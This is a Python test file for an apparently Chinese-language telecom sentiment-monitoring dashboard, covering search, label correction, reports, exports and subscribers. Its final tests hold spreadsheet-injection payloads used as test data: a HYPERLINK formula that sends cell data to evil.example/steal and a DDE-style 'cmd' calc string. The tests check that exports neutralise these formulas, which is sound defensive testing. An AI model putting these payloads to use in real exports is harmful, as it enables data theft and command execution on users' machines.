"""Search, reports, sources and subscribers pages on a store with known data."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pandas as pd

from yuqing.index import PostQuery
from yuqing.records import CrawlRun, Rejected

from .conftest import NOW, XSS
from .test_alerts_queue import on_page


def test_every_page_renders_with_the_banner(filled):
    for page in ("overview", "alerts", "queue", "search", "reports", "sources"):
        at = on_page("responder", page)
        assert "中国电信 断网负面激增" in at.error[0].value, page


def _save_correction(at, key: str) -> None:
    at.button(key=f"FormSubmitter:correct_label_{key}-保存更正").click().run()


def test_search_finds_words_and_corrects_label(filled):
    at = on_page("responder", "search")
    assert at.metric[0].value == "14"
    at.text_input(key="search_q").input("断网").run()
    assert at.query_params["q"] == "断网"
    assert at.metric[0].value == str(filled.count_posts(PostQuery(text="断网", since=NOW - timedelta(days=7))))
    assert list(at.dataframe[0].value["内容"]) == ["电信断网三天了，再不修就去工信部投诉"]
    assert "电信断网（2 条，负面 2 条，2026-11-24 08:00 至 2026-11-24 09:00）" in [t.value for t in at.text]
    at.selectbox(key="correct_to_weibo_p1").set_value("neutral")
    _save_correction(at, "weibo_p1")
    assert filled.get_post("weibo", "p1").label == "neutral"
    assert filled.list_audit(target="post:weibo:p1")[0].action == "correct_label"


def test_search_shows_script_post_as_text(filled):
    at = on_page("viewer", "search")
    at.text_input(key="search_q").input("script").run()
    assert list(at.dataframe[0].value["内容"]) == [XSS]
    assert XSS in [t.value for t in at.text]
    assert not at.get("form")  # a viewer cannot correct labels


def test_filters_are_kept_in_the_url(filled):
    at = on_page("viewer", "overview")
    at.multiselect(key="f_operator").set_value(["中国移动"]).run()
    assert at.query_params["operator"] == "中国移动"
    assert {m.label: m.value for m in at.metric}["帖子总数"] == "3"
    from tests.dashboard.conftest import app_as
    shared = app_as("viewer")
    shared.query_params["operator"] = "中国移动"
    shared.query_params["range"] = "24h"
    shared.run()
    assert {m.label: m.value for m in shared.metric}["帖子总数"] == "3"
    assert shared.selectbox(key="f_range").value == "24h"


def test_overview_operators_and_regions_equal_the_store(filled):
    at = on_page("viewer", "overview")
    since = NOW - timedelta(days=7)
    ops = at.dataframe[0].value
    assert list(ops["运营商"]) == ["中国电信（我方）", "中国移动"]
    assert list(ops["声量"]) == [filled.count_posts(PostQuery(since=since, operators=(o,))) for o in ("中国电信", "中国移动")]
    assert list(ops["净情感"]) == [f"{(2 - 6) / 11:+.1%}", f"{(1 - 2) / 3:+.1%}"]
    regions = at.dataframe[1].value
    assert dict(zip(regions["地区"], regions["数量"], strict=True)) == filled.facet(PostQuery(since=since), "province")


def test_reports_figures_and_exports(filled):
    at = on_page("responder", "queue")
    case_id = at.selectbox(key="case_pick").value
    at.button(key=f"replied_{case_id}").click().run()  # the suggested template, unedited
    at = on_page("viewer", "reports")
    at.selectbox(key="report_days_daily").set_value(7).run()
    summary = at.dataframe[0].value
    day = summary[summary["周期"] == "2026-11-24"].iloc[0]
    # posts published 2026-11-24 Asia/Shanghai (since 00:00 = 16:00 UTC the day before): 11 of them
    start = datetime(2026, 11, 23, 16, tzinfo=UTC)
    assert day["帖子数"] == filled.count_posts(PostQuery(since=start)) == 11
    assert day["负面数"] == filled.count_posts(PostQuery(since=start, labels=("negative",)))
    assert day["回复数"] == 1 and day["回复中位时长(分钟)"] == 30.0  # p1 (tops the queue), 30 minutes old when replied
    assert len(at.get("download_button")) == 3
    from dashboard import report_tables as reports
    book = openpyxl.load_workbook(io.BytesIO(reports.to_excel({"汇总": summary})))
    assert [c.value for c in book["汇总"][1]] == reports.SUMMARY_COLUMNS
    assert pd.read_csv(io.BytesIO(reports.to_csv(summary)), encoding="utf-8-sig").shape == summary.shape


def test_sources_page_shows_health_and_rejected(filled):
    filled.record_crawl_run(CrawlRun(source="weibo", started_at=NOW - timedelta(minutes=5), finished_at=NOW,
                                     pages=3, posts_found=40, posts_new=12, rejected=2, errors={"http_418": 1},
                                     healthy=False, reason="HTTP 418 连续出现"))
    filled.record_rejected([Rejected(source="weibo", stage="parse", reason="missing id", at=NOW),
                            Rejected(source="weibo", stage="parse", reason="missing id", at=NOW)])
    at = on_page("viewer", "sources")
    assert any("HTTP 418" in e.value for e in at.error)
    health = at.dataframe[0].value
    assert list(health["新增"]) == [12] and list(health["状态"]) == ["异常"]
    assert list(at.dataframe[1].value["数量"]) == [2]


def test_subscribers_admin_only(filled):
    at = on_page("admin", "subscribers")
    at.text_input(key="sub_email").input("pr@example.com")
    at.selectbox(key="sub_sev").set_value("orange")
    at.button[0].click().run()  # the form's submit button comes first on the page
    subs = filled.list_subscribers()
    assert [(s.email, s.min_severity) for s in subs] == [("pr@example.com", "orange")]
    at.button(key="sub_toggle").click().run()
    assert not filled.list_subscribers()[0].active
    from tests.dashboard.conftest import app_as
    at = app_as("responder").run()
    try:
        at.switch_page("views/subscribers.py").run()
    except ValueError:  # not a registered page for a responder
        pass
    assert at.title[0].value == "总览" and not [t for t in at.text_input if t.key == "sub_email"]


def test_sources_page_without_rejections_says_so_in_chinese(filled):
    at = on_page("viewer", "sources")
    assert [i.value for i in at.info].count("暂无拒收记录。") == 2
    assert not at.dataframe  # no crawl run yet either: no empty English "empty" tables


def test_subscriber_with_a_bad_email_gets_a_chinese_error(filled):
    at = on_page("admin", "subscribers")
    at.text_input(key="sub_email").input("bad-email")
    at.button[0].click().run()
    assert [e.value for e in at.error if "预警" not in e.value] == ["邮箱地址无效：bad\\-email（须包含 @）"]
    assert not filled.list_subscribers()


def test_report_without_replies_shows_a_dash_not_none():
    from dashboard import report_tables as reports
    from yuqing.index import Bucket

    summary = reports.summary([Bucket(NOW, "negative", 3), Bucket(NOW, "positive", 1)], [], "daily")
    assert summary["回复中位时长(分钟)"].isna().all()
    html = reports.shown(summary).to_html()
    assert "—" in html and "None" not in html and "nan" not in html
    assert pd.read_csv(io.BytesIO(reports.to_csv(summary)), encoding="utf-8-sig")["回复中位时长(分钟)"].isna().all()


def test_subscriber_daily_time_is_checked_and_rules_are_picked_from_the_rules_file(filled):
    at = on_page("admin", "subscribers")
    at.text_input(key="sub_email").input("night@example.com")
    at.text_input(key="sub_daily").input("25:99")
    at.button[0].click().run()
    # the same check and words as `yuqing alerts subscribe` (yuqing.ops.subscribers, the one write path)
    assert any("日报时间 25" in e.value and "无效" in e.value for e in at.error), [e.value for e in at.error]
    assert not filled.list_subscribers()
    assert "升级投诉苗头" in at.multiselect(key="sub_rules").options  # the shipped alerts/rules.yaml
    at.text_input(key="sub_email").input("night@example.com")
    at.text_input(key="sub_daily").input("7:30")
    at.multiselect(key="sub_rules").select("升级投诉苗头")
    at.button[0].click().run()
    [sub] = filled.list_subscribers()
    assert (sub.daily_at, sub.rules) == ("07:30", ("升级投诉苗头",))


def test_label_correction_starts_from_each_posts_own_label_and_shows_the_new_one(filled):
    at = on_page("responder", "search")
    first = at.selectbox(key="search_pick").value
    assert first == "weibo:p1" and at.selectbox(key="correct_to_weibo_p1").value == "negative"
    at.selectbox(key="correct_to_weibo_p1").set_value("positive")
    _save_correction(at, "weibo_p1")
    assert not at.exception, at.exception
    assert filled.get_post("weibo", "p1").label == "positive"
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["情感"] == "正面（已人工更正）"  # shown at once, not after a reload
    assert "已更正为「正面」" in [s.value for s in at.success]
    at.selectbox(key="search_pick").set_value("weibo:p2").run()  # another negative post
    assert at.selectbox(key="correct_to_weibo_p2").value == "negative"
    assert {m.label: m.value for m in at.metric}["情感"] == "负面"
    _save_correction(at, "weibo_p2")  # saving untouched keeps the post's own label
    assert filled.get_post("weibo", "p2").label == "negative"


def test_risk_flags_and_platforms_are_shown_in_chinese(filled):
    at = on_page("responder", "search")  # the newest post, p1, threatens escalation
    detail = dict(zip(at.dataframe[1].value["项目"], at.dataframe[1].value["内容"], strict=True))
    assert detail["风险"] == "升级投诉风险"
    assert set(at.dataframe[0].value["平台"]) <= {"微博", "知乎", "百度知道", "黑猫投诉"}
    filled.record_rejected([Rejected(source="zhihu", stage="parse", reason="missing id", at=NOW)])
    at = on_page("viewer", "sources")
    assert list(at.dataframe[0].value["来源"]) == ["知乎"] and list(at.dataframe[1].value["来源"]) == ["知乎"]
    from yuqing.records import Subscriber
    filled.save_subscriber(Subscriber(email="pr@example.com", platforms=("weibo", "heimao")))
    at = on_page("admin", "subscribers")
    assert list(at.dataframe[0].value["平台"]) == ["微博、黑猫投诉"]


def test_missing_sample_post_is_named_in_chinese(filled):
    from yuqing.records import Alert
    filled.save_alert(Alert(rule="r", key="k", severity="blue", title="样例缺失", reason="", opened_at=NOW,
                            sample_keys=("zhihu:gone",)))
    at = on_page("viewer", "alerts")
    pick = next(i for i in at.selectbox(key="alert_pick").options if "样例缺失" in i)
    at.selectbox(key="alert_pick").select(pick).run()
    assert any("知乎 gone（帖子不在库中）" in c.value.replace("\\", "") for c in at.caption)


FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"电信断网点此查看")'


def test_a_post_that_starts_like_a_formula_is_exported_as_text(filled):
    from tests.dashboard.conftest import _post

    filled.upsert_posts([_post(NOW, 90, "weibo", "中国电信", "negative", 1, text=FORMULA)])
    at = on_page("viewer", "search")
    at.text_input(key="search_q").input("HYPERLINK").run()
    [cell] = list(at.dataframe[0].value["内容"])
    assert cell == "'" + FORMULA  # the table's download button exports what the table holds
    overview = on_page("viewer", "overview")
    latest = [c for frame in overview.dataframe for c in frame.value.get("内容", [])]
    assert "'" + FORMULA in latest and FORMULA not in latest


def test_spreadsheet_safe_cells() -> None:
    import pandas as pd

    from dashboard.cells import safe_frame, spreadsheet_safe
    from dashboard.report_tables import to_csv

    for bad in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "\r=1"):
        assert spreadsheet_safe(bad) == "'" + bad
    for fine in ("电信断网", "-35.7%", "+12", "-3", 42, None, "a=b"):
        assert spreadsheet_safe(fine) == fine
    frame = pd.DataFrame({"内容": ["=1+1", "ok"], "数量": [1, 2]})
    assert list(safe_frame(frame)["内容"]) == ["'=1+1", "ok"] and list(frame["内容"]) == ["=1+1", "ok"]
    assert b"'=1+1" in to_csv(frame)
